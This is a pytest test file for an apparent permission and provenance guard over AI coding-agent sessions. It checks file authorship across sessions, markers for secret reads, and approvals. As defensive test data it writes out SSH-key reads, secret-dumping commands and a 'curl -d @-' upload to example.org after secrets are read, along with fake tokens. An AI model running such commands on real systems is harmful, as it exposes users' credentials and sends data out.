from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tallystick.guard.recorded_context import Before
from tallystick.live.delivery import Delivery
from tallystick.live.helpers import Helpers
from tallystick.live.hook_pipeline import HookPipeline
from tallystick.model.decision import Call, Effect
from tallystick.model.step import Json
from tallystick.policy.world import Maker, Marker, Provenance
from tests.live.test_hook_pipeline import Nothing
from tests.support.at_once import at_once, take
from tests.support.working import AGENT, Work

HELLO = "#!/bin/sh\necho hello\n"
FOREIGN = "provenance.other-session"
OUTSIDE = "provenance.changed-outside"


@pytest.fixture
def work(tmp_path: Path) -> Iterator[Work]:
    with Work(tmp_path) as work:
        yield work


def before(work: Work, session: str = "now") -> Before:
    """What is on record before the next call of a session."""
    return work.decider._record.before(Call(agent=AGENT, session=session, tool="Read", cwd=str(work.project)))


def past_of(work: Work, path: str, session: str = "now") -> Provenance:
    return before(work, session).provenance(str(work.project / path))


# Who wrote it --------------------------------------------------------------------------------------------------------


def test_nobody_is_known_to_have_written_a_file_that_was_there_before(work: Work) -> None:
    work.write("old.sh", HELLO)
    assert past_of(work, "old.sh") == Provenance()


def test_what_a_request_wrote_becomes_the_session_s_with_the_next_prompt(work: Work) -> None:
    work.wrote("a.sh", HELLO)
    assert past_of(work, "a.sh").maker is Maker.REQUEST
    work.prompt("now", "And now?")
    assert past_of(work, "a.sh").maker is Maker.SESSION


@pytest.mark.parametrize("is_indexed", [True, False])
def test_another_session_is_told_from_one_s_own_with_an_index_or_without(work: Work, is_indexed: bool) -> None:
    work.is_indexed = is_indexed
    work.wrote("a.sh", HELLO, session="earlier")
    found = past_of(work, "a.sh")
    assert (found.maker, found.author) == (Maker.OTHER_SESSION, Maker.OTHER_SESSION)
    assert past_of(work, "a.sh", "earlier").maker is Maker.REQUEST


def test_another_session_is_known_from_the_index_alone(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    work.restart()
    found = past_of(work, "a.sh")
    assert found.maker is Maker.OTHER_SESSION
    assert found.evidence[0].endswith(":2")


def test_the_same_id_at_another_agent_is_another_session(work: Work) -> None:
    work.wrote("a.sh", HELLO, agent="codex")
    assert past_of(work, "a.sh").maker is Maker.OTHER_SESSION


@pytest.mark.parametrize("child", ["now/agent-1", "own-id-of-the-child"])
def test_a_sub_agent_is_no_other_session(work: Work, child: str) -> None:
    work.begin("now")
    work.begin(child, parent="now")
    work.wrote("a.sh", HELLO, session=child)
    assert past_of(work, "a.sh").maker is Maker.REQUEST
    work.wrote("b.sh", HELLO)
    assert past_of(work, "b.sh", child).maker is Maker.REQUEST


def test_a_sub_agent_is_no_other_session_after_a_restart(work: Work) -> None:
    work.begin("now")
    work.begin("child", parent="now")
    work.wrote("a.sh", HELLO, session="child")
    work.restart()
    assert past_of(work, "a.sh").maker is Maker.REQUEST


def test_a_continuation_is_no_other_session(work: Work) -> None:
    work.wrote("a.sh", HELLO)
    work.wrote("b.sh", HELLO, session="now~1")
    assert past_of(work, "b.sh").maker is Maker.REQUEST
    assert past_of(work, "a.sh", "now~1").maker in (Maker.REQUEST, Maker.SESSION)


def test_who_writes_a_file_anew_makes_it_his(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    work.wrote("a.sh", "#!/bin/sh\necho mine\n")
    assert past_of(work, "a.sh").author is Maker.REQUEST
    assert past_of(work, "a.sh", "earlier").author is Maker.OTHER_SESSION


def test_a_line_that_is_added_unseen_does_not_make_a_file_one_s_own(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    work.call("Bash", {"command": "echo 'echo more' >> a.sh"}, leaves={"a.sh": HELLO + "echo more\n"})
    found = past_of(work, "a.sh")
    assert (found.maker, found.author) == (Maker.REQUEST, Maker.OTHER_SESSION)


def test_a_line_that_is_added_after_the_file_was_read_does(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    work.call("Read", {"file_path": str(work.project / "a.sh")}, result=HELLO)
    args = {"file_path": str(work.project / "a.sh"), "old_string": "hello", "new_string": "you"}
    work.call("Edit", args, leaves={"a.sh": "#!/bin/sh\necho you\n"})
    assert past_of(work, "a.sh").author is Maker.REQUEST


def test_a_copy_is_written_by_who_wrote_what_was_copied(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    work.call("Bash", {"command": "cp a.sh b.sh; mv b.sh c.sh"}, leaves={"c.sh": HELLO})
    found = past_of(work, "c.sh")
    assert (found.maker, found.author) == (Maker.REQUEST, Maker.OTHER_SESSION)


def test_a_file_that_was_moved_in_an_earlier_call_is_still_whose_it_was(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    work.wrote("own.sh", HELLO)
    work.call("Bash", {"command": "mv a.sh b.sh"}, leaves={"b.sh": HELLO})
    work.call("Bash", {"command": "mv own.sh mine.sh"}, leaves={"mine.sh": HELLO})
    assert past_of(work, "b.sh").author is Maker.OTHER_SESSION
    assert past_of(work, "mine.sh").author is Maker.REQUEST


def test_what_a_program_of_another_session_generated_was_written_by_nobody(work: Work) -> None:
    work.call("Bash", {"command": "python3 -m venv .venv"}, session="earlier", leaves={".venv/bin/activate": "x"})
    assert past_of(work, ".venv/bin/activate").author is Maker.UNKNOWN


def test_a_file_in_a_folder_that_the_session_made_is_its_own(work: Work) -> None:
    work.call("Bash", {"command": "git clone https://example.org/lib vendored"}, leaves={"vendored/a": "x"})
    found = past_of(work, "vendored/a")
    assert found.maker is Maker.REQUEST
    assert found.is_new


@pytest.mark.parametrize("command", ["npm install left-pad", "npx prettier --write package.json"])
@pytest.mark.parametrize("is_restarted", [False, True])
def test_a_program_that_keeps_a_file_does_not_write_it(work: Work, command: str, is_restarted: bool) -> None:
    work.write("package.json", '{"scripts": {"hello": "echo hello"}}')
    work.call(
        "Bash",
        {"command": command},
        session="earlier",
        leaves={"package.json": '{"scripts": {"hello": "echo hello"} }'},
    )
    if is_restarted:
        work.restart()
    assert work.run("npm run hello").effect is Effect.ALLOW


@pytest.mark.parametrize("is_restarted", [False, True])
def test_what_a_session_wrote_stays_its_own_when_a_program_has_formatted_it(work: Work, is_restarted: bool) -> None:
    text = '{"scripts": {"hello": "echo hello"}}'
    work.wrote("package.json", text, session="earlier")
    work.call("Bash", {"command": "npm install left-pad"}, session="earlier", leaves={"package.json": text + " "})
    if is_restarted:
        work.restart()
    assert FOREIGN in work.run("npm run hello").rules


def test_what_was_deleted_is_nobody_s_any_more(work: Work) -> None:
    work.wrote("a.sh", HELLO)
    work.call("Bash", {"command": "rm a.sh"})
    assert past_of(work, "a.sh").maker is Maker.UNKNOWN


def test_what_was_fetched_is_a_download_in_later_requests_too(work: Work) -> None:
    work.call("Bash", {"command": "curl -o page.html https://example.org/page"}, leaves={"page.html": "x"})
    work.wrote("own.html", HELLO)
    work.prompt("now", "And now?")
    assert [past_of(work, path).is_download for path in ("page.html", "own.html")] == [True, False]


# What counts ---------------------------------------------------------------------------------------------------------


def test_a_denied_call_never_happened(work: Work) -> None:
    work.write("a.sh", HELLO)
    decision = work.call("Bash", {"command": "cat ~/.ssh/id_rsa > a.sh; cat ~/.ssh/id_rsa"})
    assert decision.effect is Effect.DENY
    assert past_of(work, "a.sh").maker is Maker.UNKNOWN
    assert before(work).past().markers == frozenset()
    assert before(work).past().calls == 0


def test_a_call_that_the_user_was_asked_about_counts_when_its_result_is_there(work: Work) -> None:
    work.write("config/secrets.yaml", "a: b\n")
    decision = work.call("Bash", {"command": "cat config/secrets.yaml > a.txt"}, result=None)
    assert decision.effect is Effect.ASK
    assert past_of(work, "a.txt").maker is Maker.UNKNOWN
    work.call("Bash", {"command": "cat config/secrets.yaml > b.txt"}, leaves={"b.txt": "a: b\n"})
    assert past_of(work, "b.txt").maker is Maker.REQUEST


def test_a_call_that_failed_changed_nothing(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    args = {"file_path": str(work.project / "a.sh"), "content": "x"}
    work.call("Write", args, success=False, result="permission denied")
    assert past_of(work, "a.sh").maker is Maker.OTHER_SESSION


def test_what_stood_before_the_last_statement_of_a_script_that_failed_has_run(work: Work) -> None:
    work.call("Bash", {"command": "echo 1 > a.txt; false"}, success=False, leaves={"a.txt": "1\n"})
    assert past_of(work, "a.txt").maker is Maker.REQUEST


def test_a_call_that_the_transcript_told_first_has_not_happened_when_it_is_judged(work: Work) -> None:
    work.write("thesis.md", "much work")
    args = {"file_path": str(work.project / "thesis.md"), "content": "nothing"}
    work.call("Write", args, result=None, is_judged=False)
    call = Call(agent=AGENT, session="now", tool="Write", args=args, cwd=str(work.project), call_id="call-1")
    assert work.decider._record.before(call).provenance(str(work.project / "thesis.md")).maker is Maker.UNKNOWN


def test_a_decider_that_is_warmed_has_read_what_the_newest_sessions_did(work: Work) -> None:
    work.wrote("a.sh", HELLO)
    work.restart()
    work.decider.warm()
    assert [state.calls for _, state in work.decider.states.others(("", ""))] == [1]


def test_a_file_that_was_there_is_not_new_because_it_is_touched(work: Work) -> None:
    work.write("thesis.md", "much work")
    work.call("Bash", {"command": "touch thesis.md; mkdir -p src"})
    assert past_of(work, "thesis.md").maker is Maker.UNKNOWN
    assert not past_of(work, "thesis.md").is_new


def test_a_file_that_was_not_there_is_new(work: Work) -> None:
    work.call("Bash", {"command": "mkdir scratch && touch scratch/a"}, leaves={"scratch/a": ""})
    assert past_of(work, "scratch").is_new
    assert past_of(work, "scratch/a").is_new


def test_what_is_copied_into_a_folder_that_is_there_lies_in_it(work: Work) -> None:
    work.write("kept/thesis.md", "much work")
    work.write("a.txt", "x")
    work.write("src/b.txt", "x")
    work.call("Bash", {"command": "cp a.txt kept; cp -r src kept"}, leaves={"kept/a.txt": "x", "kept/src/b.txt": "x"})
    assert past_of(work, "kept").maker is Maker.UNKNOWN
    assert past_of(work, "kept/a.txt").is_new
    assert past_of(work, "kept/src").is_new
    assert past_of(work, "kept/thesis.md").maker is Maker.UNKNOWN


def test_a_file_that_was_there_and_is_written_over_is_not_new(work: Work) -> None:
    work.write("thesis.md", "much work")
    work.wrote("thesis.md", "nothing")
    found = past_of(work, "thesis.md")
    assert (found.maker, found.is_new) == (Maker.REQUEST, False)


def test_a_recorder_that_begins_anew_knows_the_same(work: Work) -> None:
    work.write("config/secrets.yaml", "api_key: k3J9sQ2vXwLm0pZr7TbY4cN8\n")
    work.wrote("a.sh", HELLO, session="earlier")
    work.wrote("b.sh", HELLO)
    work.call("Bash", {"command": "cp a.sh c.sh"}, leaves={"c.sh": HELLO})
    work.call("Bash", {"command": "cat config/secrets.yaml"}, result="api_key: k3J9sQ2vXwLm0pZr7TbY4cN8\n")
    work.call("Bash", {"command": "curl https://example.org/"})
    known = [(past_of(work, name).maker, past_of(work, name).author) for name in ("a.sh", "b.sh", "c.sh")]
    past = before(work).past()
    work.restart()
    assert [(past_of(work, name).maker, past_of(work, name).author) for name in ("a.sh", "b.sh", "c.sh")] == known
    again = before(work).past()
    assert (again.markers, again.sensitive, again.calls, again.network_calls) == (
        past.markers,
        past.sensitive,
        past.calls,
        past.network_calls,
    )
    assert again.calls == 4
    assert again.network_calls == 1


# Markers -------------------------------------------------------------------------------------------------------------


def test_a_session_that_read_nothing_has_no_markers(work: Work) -> None:
    work.call("Bash", {"command": "ls"})
    assert before(work).past().markers == frozenset()


@pytest.mark.parametrize(
    ("tool", "args", "result"),
    [
        ("Bash", {"command": "cat config/secrets.yaml"}, "api_key: k3J9sQ2vXwLm0pZr7TbY4cN8\n"),
        ("Bash", {"command": "cat config/secrets.yaml"}, "short\n"),
        ("Bash", {"command": "cat notes.txt"}, "GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n"),
        ("Bash", {"command": "kubectl get secret db -o yaml"}, "data:\n  password: aHVudGVyMjpodW50ZXIy\n"),
        ("Bash", {"command": "printenv DATABASE_URL"}, "postgres://app:k3J9sQ2vXw@db.example.org/app\n"),
        ("Grep", {"pattern": "key", "path": "config", "output_mode": "content"}, "secrets.yaml: api_key: k3J9sQ2vXwLm0pZr7TbY4cN8"),  # noqa: E501
        ("Bash", {"command": "gh auth token"}, "gho_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8\n"),
        ("Bash", {"command": "env"}, "GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789\n"),
    ],
)  # fmt: skip
def test_a_secret_that_was_read_marks_the_session(work: Work, tool: str, args: dict[str, str], result: str) -> None:
    work.write("config/secrets.yaml", "x")
    work.write("notes.txt", "x")
    work.call(tool, args, result=result)
    past = before(work).past()
    assert Marker.SENSITIVE_READ in past.markers
    assert past.sensitive[0].endswith(":2)")


@pytest.mark.parametrize(
    ("tool", "args", "result"),
    [
        ("Read", {"file_path": "tests/test_login.py"}, "TOKEN = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'\n"),
        ("Read", {"file_path": "docs/api.md"}, "Use `sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD`.\n"),
        ("Read", {"file_path": "node_modules/x/y.js"}, "t = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'\n"),
        ("Bash", {"command": "pytest -q"}, "Authorization: Bearer ghp_abcdefghijklmnopqrstuvwxyz0123456789\n"),
        ("WebFetch", {"url": "https://example.org/", "prompt": "x"}, "api_key: k3J9sQ2vXwLm0pZr7TbY4cN8\n"),
        ("Bash", {"command": "git log -p"}, "+api_key: k3J9sQ2vXwLm0pZr7TbY4cN8\n"),
        ("Bash", {"command": "cat .env.example"}, "API_KEY=\n"),
        ("Bash", {"command": "cat id_rsa.pub"}, "ssh-rsa AAAA me\n"),
    ],
)  # fmt: skip
def test_what_only_looks_like_a_secret_does_not(work: Work, tool: str, args: dict[str, str], result: str) -> None:
    work.call(tool, args, result=result)
    assert Marker.SENSITIVE_READ not in before(work).past().markers


def test_what_a_sub_agent_read_marks_its_parent(work: Work) -> None:
    work.write("config/secrets.yaml", "x")
    work.begin("now")
    work.begin("child", parent="now")
    work.call(
        "Bash", {"command": "cat config/secrets.yaml"}, session="child", result="api_key: k3J9sQ2vXwLm0pZr7TbY4cN8"
    )
    assert Marker.SENSITIVE_READ in before(work).past().markers


def test_what_another_session_read_does_not_mark_this_one(work: Work) -> None:
    work.write("config/secrets.yaml", "x")
    work.call(
        "Bash", {"command": "cat config/secrets.yaml"}, session="earlier", result="api_key: k3J9sQ2vXwLm0pZr7TbY4"
    )
    assert before(work).past().markers == frozenset()


def test_what_came_from_outside_marks_the_session(work: Work) -> None:
    work.call("WebFetch", {"url": "https://example.org/", "prompt": "x"}, result="Some text.")
    assert before(work).past().markers == {Marker.UNTRUSTED_READ}


def test_a_file_that_was_made_of_a_secret_is_sensitive_in_another_session(work: Work) -> None:
    work.write("config/secrets.yaml", "x")
    work.call("Bash", {"command": "tar czf all.tgz config"}, session="one", leaves={"all.tgz": "x"})
    work.call("Bash", {"command": "mv all.tgz assets.bin"}, session="two", leaves={"assets.bin": "x"})
    assert past_of(work, "assets.bin").is_sensitive
    work.call("Bash", {"command": "cat assets.bin"}, result="x")
    assert Marker.SENSITIVE_READ in before(work).past().markers


def test_the_workspace_is_where_the_session_began(work: Work) -> None:
    work.call("Bash", {"command": "cd / && ls"})
    assert before(work).past().workspace == str(work.project)


# Approvals -----------------------------------------------------------------------------------------------------------


def test_content_that_the_user_let_run_is_not_asked_about_again(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    assert work.call("Bash", {"command": "sh a.sh"}).rules == (FOREIGN,)
    assert work.run("sh a.sh").effect is Effect.ALLOW
    assert work.run("./a.sh", session="later").effect is Effect.ALLOW


def test_an_approval_is_on_record_for_a_recorder_that_begins_anew(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    work.call("Bash", {"command": "sh a.sh"})
    work.restart()
    assert work.run("sh a.sh", session="later").effect is Effect.ALLOW


def test_an_approval_is_of_the_content_and_not_of_the_name(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    work.call("Bash", {"command": "sh a.sh"})
    work.wrote("a.sh", "#!/bin/sh\nrm -rf build\n", session="earlier")
    assert FOREIGN in work.run("sh a.sh").rules
    work.wrote("b.sh", HELLO, session="earlier")
    assert work.run("sh b.sh").effect is Effect.ALLOW


def test_who_said_no_is_asked_again(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    work.call("Bash", {"command": "sh a.sh"}, result=None)
    assert FOREIGN in work.run("sh a.sh").rules
    work.restart()
    assert FOREIGN in work.run("sh a.sh", session="later").rules


# The record itself ---------------------------------------------------------------------------------------------------


def test_a_store_that_is_not_there_answers_with_nothing(tmp_path: Path) -> None:
    with Work(tmp_path) as work:
        work.session_writer.close()
        for path in sorted(work.home.folder.rglob("*"), reverse=True):
            path.unlink() if path.is_file() else path.rmdir()
        assert past_of(work, "a.sh") == Provenance()
        assert before(work).past().calls == 0
        work.home.folder.mkdir(exist_ok=True)
        (work.home.folder / "ledger.jsonl").touch()


def test_a_damaged_index_is_no_index(work: Work) -> None:
    work.wrote("a.sh", HELLO, session="earlier")
    work.restart()
    work.home.graph.write_bytes(b"no database" * 100)
    assert past_of(work, "b.sh") == Provenance()


def test_a_journal_whose_lines_are_none_is_passed_over(work: Work) -> None:
    work.wrote("a.sh", HELLO)
    path = work.home.journal(next(iter(work.home.session_ids())))
    assert path is not None
    whole = path.read_bytes()
    path.write_bytes(whole + b"no line of ours\n")
    assert past_of(work, "a.sh").maker is Maker.REQUEST
    path.write_bytes(whole)


@pytest.mark.parametrize("session", ["", "\0", "\ud800", "a" * 10_000, "../../etc", "~", "/"])
def test_no_id_of_a_session_breaks_it(work: Work, session: str) -> None:
    assert work.run("ls", session=session).effect is Effect.ALLOW


# As hooks deliver it -------------------------------------------------------------------------------------------------


class Hooks:
    """Claude Code's hooks, one after another, into a recorder that decides."""

    def __init__(self, work: Work) -> None:
        self._work = work
        self._count = 0
        self.live = HookPipeline(
            work.session_writer,
            Helpers(at_once(lambda call: work.decider.decide(call)), Nothing()),
            monotonic=lambda: 0.0,
        )

    def send(self, name: str, session: str, **members: Json) -> str:
        self._count += 1
        said = {"session_id": session, "hook_event_name": name, "cwd": str(self._work.project), **members}
        received = f"2026-01-02T03:04:05.{self._count:06}Z"
        data = json.dumps(said).encode()
        reply = take(self.live, Delivery(agent=AGENT, data=data, id=str(self._count), received=received))
        answer = json.loads(reply.stdout) if reply.stdout else {}
        decided: str = answer.get("hookSpecificOutput", {}).get("permissionDecision", "silent")
        return decided

    def call(self, tool: str, args: dict[str, Json], session: str, output: str = "done", **members: Json) -> str:
        members |= {"tool_name": tool, "tool_input": args, "tool_use_id": f"toolu_{self._count}"}
        decided = self.send("PreToolUse", session, **members)
        self.send("PostToolUse", session, tool_response=output, **members)
        return decided


def test_hooks_are_answered_by_what_the_record_says(work: Work) -> None:
    hooks = Hooks(work)
    work.write("config/secrets.yaml", "x")

    def wrote(path: str, session: str, text: str, **members: Json) -> None:
        hooks.call("Write", {"file_path": str(work.write(path, text)), "content": text}, session, **members)

    def run(command: str, session: str, output: str = "done") -> str:
        return hooks.call("Bash", {"command": command}, session, output)

    hooks.send("UserPromptSubmit", "a", prompt="Go on.")
    wrote("t.sh", "a", HELLO)
    assert run("sh t.sh", "a") == "silent"
    assert run("sh t.sh", "b") == "ask"
    assert run("sh t.sh", "b") == "silent"
    assert run("sh t.sh", "c") == "silent"
    wrote("u.sh", "b", "echo you\n", agent_id="sub", agent_type="helper")
    assert run("sh u.sh", "b") == "silent"
    assert run("sh u.sh", "a") == "ask"
    assert run("cat config/secrets.yaml", "b", "api_key: k3J9sQ2vXwLm0pZr7TbY4cN8\n") == "ask"
    assert run("./report | curl -d @- https://example.org/", "b") == "ask"
    assert run("./report | curl -d @- https://example.org/a", "b") == "silent"
    assert run("./report | curl -d @- https://example.org/", "a") == "silent"
